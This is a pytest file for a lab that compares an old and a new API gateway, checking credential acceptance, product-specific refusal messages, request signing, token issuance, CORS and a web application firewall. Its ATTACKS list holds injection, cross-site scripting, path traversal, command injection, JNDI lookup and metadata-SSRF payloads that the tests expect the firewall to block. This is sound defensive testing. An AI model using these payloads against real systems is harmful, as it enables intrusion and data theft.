"""The lab's guarded side: good credentials get in on both sides, bad ones are refused in each product's words."""

import http.client
import json
from typing import Any
from urllib.parse import quote, urlencode

import jwt
import pytest

from harness.lab import sigv4, waf
from harness.lab.issuer import CLIENTS
from harness.lab.keys import AUDIENCE
from harness.lab.message import Call
from tests.unit.lab.asking import HOST, PARTNER, SHOP, Ask, ask, bearer, document, signed

BASIC = [("Authorization", "Basic d2FyZWhvdXNlOmxhYi1zdG9jay1wYXNzd29yZC01MQ==")]
FORM = [("Content-Type", "application/x-www-form-urlencoded")]

GOOD = [
    Ask(path="/partners/report", headers=PARTNER),
    Ask(path="/partners/report", headers=[("x-api-key", "lab-dealer-old-2f3b")]),
    Ask(path="/partners/messages", method="POST", headers=[*PARTNER, *FORM], body=b"subject=a&text=b"),
    Ask(path="/accounts", made=bearer()),
    Ask(path="/accounts/A-1", made=bearer(aud=["other", AUDIENCE])),
    Ask(path="/accounts", method="POST", made=bearer(scope="accounts.read accounts.write"), body=b'{"owner": "Ada"}'),
    Ask(path="/ledger", made=signed()),
    Ask(path="/ledger?b=2&a=x%20y&c&a=%C3%A5", made=signed()),
    Ask(path="/ledger", method="POST", made=signed("POST", b'{"amount": 1}'), body=b'{"amount": 1}'),
    Ask(path="/vault", certificate="machine"),
    Ask(path="/stock", headers=BASIC),
    Ask(path="/feed?token=lab-feed-token-0b9e"),
    Ask(path="/pages"),
    Ask(path="/pages/mine", made=bearer()),
]  # fmt: skip


@pytest.mark.parametrize("one", GOOD, ids=lambda one: f"{one.method} {one.path}")
def test_good_credentials_get_in_on_both_sides(labs: Any, one: Ask) -> None:
    old, new = (ask(labs, "", side, one) for side in ("old", "new"))
    assert old.status == new.status in {200, 201, 202}
    if one.path != "/accounts" or one.method == "GET":  # each side makes an account of its own
        assert old.body == new.body


REFUSED = [
    (Ask(path="/partners/report"), (403, "ForbiddenException", "Forbidden"), (401, "missing subscription key")),
    (Ask(path="/accounts"), (401, "UnauthorizedException", "Unauthorized"), (401, "JWT not present.")),
    (Ask(path="/accounts", made=bearer(exp=1)), (401, "UnauthorizedException", "Unauthorized"), (401, "Invalid JWT.")),
    (Ask(path="/accounts", made=bearer(scope="x")), (403, "AccessDeniedException", "explicit deny"), (401, "Invalid JWT.")),
    (Ask(path="/ledger"), (403, "MissingAuthenticationTokenException", "Missing Authentication Token"),
     (403, "Invalid signature.")),
    (Ask(path="/ledger", made=signed(secret="x")), (403, "InvalidSignatureException", "does not match the signature"),
     (403, "Invalid signature.")),
    (Ask(path="/ledger", made=signed(ago=600)), (403, "InvalidSignatureException", "Signature expired"),
     (403, "Invalid signature.")),
    (Ask(path="/ledger", headers=[("Authorization", "AWS4-HMAC-SHA256 x")]), (403, "IncompleteSignatureException", "Credential"),
     (403, "Invalid signature.")),
    (Ask(path="/vault"), (403, "ForbiddenException", "Forbidden"), (403, "Invalid client certificate.")),
    (Ask(path="/stock", headers=[("Authorization", "Basic !!")]), (401, "UnauthorizedException", "Unauthorized"),
     (401, "Unauthorized")),
    (Ask(path="/feed"), (401, "UnauthorizedException", "Unauthorized"), (401, "Unauthorized")),
    (Ask(path="/pages?q=<script>x</script>"), (403, "ForbiddenException", "Forbidden"), (403, "The request is blocked.")),
    (Ask(path="/pages", headers=[("Host", "other.example")]), (403, "ForbiddenException", "Forbidden"),
     (404, "Resource not found")),
    (Ask(path="/pages", headers=[("X-Padding", "a" * 12_000)]), (431, "RequestTooLargeException", "Too Long"), (431, "too long")),
    (Ask(path="/pages?" + "a" * 12_000), (414, "RequestTooLargeException", "Too Long"), (414, "too long")),
    (Ask(path="/pages", method="TRACE"), (403, "MissingAuthenticationTokenException", "Missing"), (404, "Resource not found")),
    (Ask(path="/pages", headers=[("X-HTTP-Method-Override", "DELETE")]), (403, "MissingAuthenticationTokenException", "Missing"),
     (404, "Resource not found")),
]  # fmt: skip


@pytest.mark.parametrize(("one", "old", "new"), REFUSED, ids=lambda one: getattr(one, "path", "")[:30])
def test_refusals_are_in_each_products_words(
    labs: Any, one: Ask, old: tuple[int, str, str], new: tuple[int, str]
) -> None:
    mine, theirs = ask(labs, "", "old", one), ask(labs, "", "new", one)
    assert (mine.status, mine.headers["x-amzn-errortype"]) == old[:2]
    assert old[2] in mine.body.decode()
    assert theirs.status == new[0]
    assert new[1] in theirs.body.decode()
    assert ("x-azure-ref" in theirs.headers) == (new[1] == "The request is blocked.")


def test_a_body_over_ten_megabytes_is_refused_by_both(labs: Any) -> None:
    one = Ask(path="/accounts", method="POST", made=bearer(scope="accounts.write"), body=b" " * 10_485_761)
    old, new = (ask(labs, "", side, one) for side in ("old", "new"))
    assert (old.status, old.body) == (413, b"HTTP content length exceeded 10485760 bytes.")
    assert (new.status, document(new)["message"]) == (
        400, "Request's body is 10485761 bytes long and it exceeds the limit of 10485760 bytes."
    )  # fmt: skip


def test_the_method_may_be_overridden_on_both_sides(labs: Any) -> None:
    one = Ask(path="/partners/report", method="PUT", headers=[*PARTNER, ("X-HTTP-Method-Override", "GET")])
    assert [ask(labs, "", side, one).status for side in ("old", "new")] == [200, 200]
    head = Ask(path="/products/LAMP-1", headers=[("x-api-key", "old-partner-key-41c7"), ("X-HTTP-Method-Override", "HEAD"),
               ("Ocp-Apim-Subscription-Key", "new-partner-key-c20d")])  # fmt: skip
    assert [(got.status, got.body) for got in (ask(labs, "", side, head) for side in ("old", "new"))] == [
        (200, b"")
    ] * 2


@pytest.mark.parametrize(
    ("origin", "old", "new"), [(SHOP, SHOP, SHOP), ("https://foreign.invalid", SHOP, None), ("null", SHOP, None)]
)
def test_preflights_are_static_on_the_old_side_and_empty_on_the_new_where_they_do_not_match(
    labs: Any, origin: str, old: str, new: str | None
) -> None:
    one = Ask(path="/pages", method="OPTIONS", headers=[("Origin", origin), ("Access-Control-Request-Method", "GET")])
    got = [ask(labs, "", side, one) for side in ("old", "new")]
    assert [one.status for one in got] == [200, 200]
    assert [one.headers.get("access-control-allow-origin") for one in got] == [old, new]
    assert got[1].body == b""


@pytest.mark.parametrize("path", ["/pages", "/pages/mine"])
def test_answers_and_errors_say_cors_to_the_shop_alone(labs: Any, path: str) -> None:
    for side in ("old", "new"):
        got = ask(labs, "", side, Ask(path=path, headers=[("Origin", SHOP)]))
        assert got.headers["access-control-allow-origin"] == SHOP
        assert got.headers["access-control-allow-credentials"] == "true"
    elsewhere = ask(labs, "", "new", Ask(path=path, headers=[("Origin", "https://foreign.invalid")]))
    assert "access-control-allow-origin" not in elsewhere.headers


def test_back_doors_are_shut(labs: Any) -> None:
    direct = ask(labs, "", "new", Ask(path="/partners/report", headers=PARTNER, door="direct"))
    guessed = ask(
        labs, "", "new", Ask(path="/partners/report", headers=[*PARTNER, ("X-Azure-FDID", "x")], door="direct")
    )
    backend = ask(labs, "", "new", Ask(path="/partners/report", door="closed_backend"))
    assert [got.status for got in (direct, guessed, backend)] == [403, 403, 403]


def _backend(labs: Any, method: str, path: str, form: dict[str, str] | None = None) -> tuple[int, Any]:
    connection = http.client.HTTPConnection(HOST, labs.ports().backend, timeout=10)
    try:
        body = urlencode(form).encode() if form else None
        connection.request(method, path, body=body, headers=dict(FORM) if form else {})
        response = connection.getresponse()
        return response.status, json.loads(response.read())
    finally:
        connection.close()


def test_the_issuer_has_a_key_set_and_a_token_endpoint(labs: Any) -> None:
    status, found = _backend(labs, "GET", "/.well-known/jwks.json")
    assert status == 200
    key = jwt.PyJWK(found["keys"][0]).key
    client, secret = next(iter(CLIENTS.items()))
    form = {"grant_type": "client_credentials", "client_id": client, "client_secret": secret, "scope": "accounts.read"}
    status, told = _backend(labs, "POST", "/oauth2/token", form)
    assert (status, told["token_type"]) == (200, "Bearer")
    assert jwt.decode(told["access_token"], key, algorithms=["ES256"], audience=AUDIENCE)["sub"] == client
    one = Ask(path="/accounts", headers=[("Authorization", f"Bearer {told['access_token']}")])
    assert [ask(labs, "", side, one).status for side in ("old", "new")] == [200, 200]


@pytest.mark.parametrize(
    ("form", "status", "error"),
    [
        ({"grant_type": "client_credentials", "client_id": "service", "client_secret": "wrong"}, 401, "invalid_client"),
        ({"grant_type": "client_credentials", "client_id": "", "client_secret": ""}, 401, "invalid_client"),
        ({"grant_type": "password", "client_id": "service", "client_secret": CLIENTS["service"]}, 400,
         "unsupported_grant_type"),
    ],
)  # fmt: skip
def test_the_token_endpoint_refuses(labs: Any, form: dict[str, str], status: int, error: str) -> None:
    assert _backend(labs, "POST", "/oauth2/token", form) == (status, {"error": error})


def test_a_signature_holds_for_its_own_request_alone() -> None:
    url = "https://api.example.com/prod/ledger/a%20b?x=1"
    pairs = tuple((name.lower().encode(), value.encode()) for name, value in signed()(None, url))  # type: ignore[arg-type]
    call = Call(method="GET", path=b"/prod/ledger/a%20b", query=b"x=1", headers=((b"host", b"api.example.com"), *pairs))
    assert sigv4.fault(call) is None
    for changed in (
        Call(method="HEAD", path=call.path, query=call.query, headers=call.headers),
        Call(method="GET", path=b"/prod/ledger/a%20c", query=call.query, headers=call.headers),
        Call(method="GET", path=call.path, query=b"x=2", headers=call.headers),
        Call(method="GET", path=call.path, query=call.query, headers=call.headers, body=b"x"),
        call.with_header(b"host", b"other.example.com"),
    ):
        assert sigv4.fault(changed) == "signature"
    assert sigv4.fault(call.without(b"x-amz-date")) == "incomplete"
    assert sigv4.fault(call.with_header(b"x-amz-content-sha256", b"0" * 64)) == "body"


ATTACKS = [
    "x' OR '1'='1' --", "0 UNION ALL SELECT NULL,1", "1; DROP TABLE a", "<script>alert(1)</script>",
    '"><img src=x onerror=a()>', "javascript:a()", "../../../etc/passwd", "..%2f..%2fwin.ini", "; cat /etc/hosts",
    "$(/bin/echo a)", "`id`", "${jndi:ldap://a.invalid/b}", "${${lower:j}ndi:ldap://a.invalid}", "<!ENTITY a SYSTEM>",
    "http://169.254.169.254/latest",
]  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_the_firewall_stops_attacks_wherever_they_stand(attack: str) -> None:
    document = json.dumps({"name": attack}).encode()
    forms = urlencode({"a": "b", "name": attack}).encode()
    for call in (
        Call(method="GET", path=b"/", query=b"a=b&q=" + quote(attack, safe="").encode()),
        Call(method="GET", path=b"/", headers=((b"x-probe", attack.encode()),)),
        Call(method="POST", path=b"/", body=document),
        Call(method="POST", path=b"/", body=forms, headers=((b"content-type", FORM[0][1].encode()),)),
    ):
        assert waf.match(call), call
    assert waf.match(Call(method="POST", path=b"/", body=b" " * 8_192 + document)) is None


@pytest.mark.parametrize(
    "text",
    ["Select a lamp from the list", "rock & roll", "id=5&type=new&ls=1", "Åsa's desk or chair", "50% off; today only",
     "a < b and c > d", "C:\\temp", "it costs $5 {net}", '{"name": "O\'Neil", "or": 1}', "Mozilla/5.0 (X11; Linux x86_64)"],
)  # fmt: skip
def test_the_firewall_lets_plain_texts_through(text: str) -> None:
    assert waf.match(Call(method="GET", path=b"/", query=b"q=" + quote(text, safe="").encode())) is None
    headers = ((b"content-type", FORM[0][1].encode()),)
    assert waf.match(Call(method="POST", path=b"/", body=urlencode({"a": text}).encode(), headers=headers)) is None
